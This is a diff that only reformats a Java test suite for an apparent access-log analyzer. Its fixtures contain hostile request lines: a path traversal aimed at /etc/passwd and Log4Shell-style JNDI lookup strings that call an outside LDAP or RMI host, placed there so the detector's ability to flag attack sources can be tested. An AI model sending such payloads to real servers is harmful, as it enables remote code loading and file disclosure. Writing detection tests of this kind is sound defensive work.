@@ -77,7 +77,8 @@ class AnalyzerTest {
   void wordsOfOneObjectsPartsAreTheSameObject() throws Exception {
     var lines = new ArrayList<String>();
     for (int i = 0; i < 400; i++) {
-      lines.add(Logs.line(i / 2, "203.0.113.7", "GET /api/users/7/part-" + (char) ('a' + i % 26), 200));
+      lines.add(
+          Logs.line(i / 2, "203.0.113.7", "GET /api/users/7/part-" + (char) ('a' + i % 26), 200));
     }
     assertThat(analyse(Logs.write(directory.resolve("a.log"), lines)).incidents()).isEmpty();
   }
@@ -116,7 +117,8 @@ class AnalyzerTest {
     lines.add(Logs.line(1_802, "203.0.113.2", "GET /../../../etc/passwd", 404));
     lines.add(Logs.line(1_803, "203.0.113.3", "GET /", 200, "${jndi:ldap://203.0.113.9/a}"));
     lines.add(
-        Logs.line(1_804, "203.0.113.4", "GET /", 403).replace("\"-\"", "\"${jndi:rmi://x.example/a}\""));
+        Logs.line(1_804, "203.0.113.4", "GET /", 403)
+            .replace("\"-\"", "\"${jndi:rmi://x.example/a}\""));
     Report report = analyse(Logs.write(directory.resolve("a.log"), lines));
     assertThat(report.incidents())
         .extracting(incident -> incident.source().orElse(""))
@@ -133,9 +135,11 @@ class AnalyzerTest {
     var lines = merged(Logs.ordinary(), Logs.walk("203.0.113.7", 600, 200));
     Path whole = Logs.write(directory.resolve("whole.log"), lines);
     Path oldest =
-        Logs.write(directory.resolve("access.log.3.gz"), lines.subList(0, 400), GZIPOutputStream::new);
+        Logs.write(
+            directory.resolve("access.log.3.gz"), lines.subList(0, 400), GZIPOutputStream::new);
     Path middle =
-        Logs.write(directory.resolve("access.log.2.zst"), lines.subList(400, 750), ZstdOutputStream::new);
+        Logs.write(
+            directory.resolve("access.log.2.zst"), lines.subList(400, 750), ZstdOutputStream::new);
     Path newest = Logs.write(directory.resolve("access.log"), lines.subList(750, lines.size()));
     Report one = analyse(whole);
     Report set = analyse(newest, oldest, middle);
@@ -177,7 +181,8 @@ class AnalyzerTest {
     assertThat(report.lines()).isEqualTo(925);
     assertThat(report.brokenLines()).isEqualTo(25);
     assertThat(report.broken().getFirst().line()).isEqualTo(6);
-    assertThat(report.broken()).allSatisfy(line -> assertThat(line.text()).doesNotContain("\u001b"));
+    assertThat(report.broken())
+        .allSatisfy(line -> assertThat(line.text()).doesNotContain("\u001b"));
   }
 
   @Test
@@ -197,10 +202,8 @@ class AnalyzerTest {
             .toList();
     Path file = Logs.write(directory.resolve("a.log"), lines);
     assertThat(analyse(file).incidents().getFirst().source()).contains("10.0.0.1");
-    var second =
-        new AnalyzerSettings(Optional.empty(), Map.of(), 2, AnalyzerSettings.FOR_LOGS, 2);
-    assertThat(
-            analyse(second, InputStream.nullInputStream(), file).incidents().getFirst().source())
+    var second = new AnalyzerSettings(Optional.empty(), Map.of(), 2, AnalyzerSettings.FOR_LOGS, 2);
+    assertThat(analyse(second, InputStream.nullInputStream(), file).incidents().getFirst().source())
         .contains("203.0.113.7");
   }
 
@@ -214,7 +217,9 @@ class AnalyzerTest {
     lines.addAll(Logs.walk("203.0.113.7", 900, 200));
     var long1 = new char[200_000];
     Arrays.fill(long1, 'x');
-    lines.add(random.nextInt(lines.size()), Logs.line(5, "198.51.100.1", "GET /" + new String(long1), 414));
+    lines.add(
+        random.nextInt(lines.size()),
+        Logs.line(5, "198.51.100.1", "GET /" + new String(long1), 414));
     Path file = Logs.write(directory.resolve("a.log"), lines);
     assertThat(Files.size(file)).isGreaterThan(3_000_000);
     Report many = analyse(file);
@@ -256,7 +261,9 @@ class AnalyzerTest {
     for (int round = 0; round < 3; round++) {
       for (int i = 0; i < 5_000; i++) {
         byte[] text = ("source " + i % 3_000).getBytes(StandardCharsets.UTF_8);
-        String made = known.of(text, 0, text.length, (a, f, t) -> new String(a, f, t - f, StandardCharsets.UTF_8));
+        String made =
+            known.of(
+                text, 0, text.length, (a, f, t) -> new String(a, f, t - f, StandardCharsets.UTF_8));
         assertThat(made).isEqualTo("source " + i % 3_000);
       }
     }
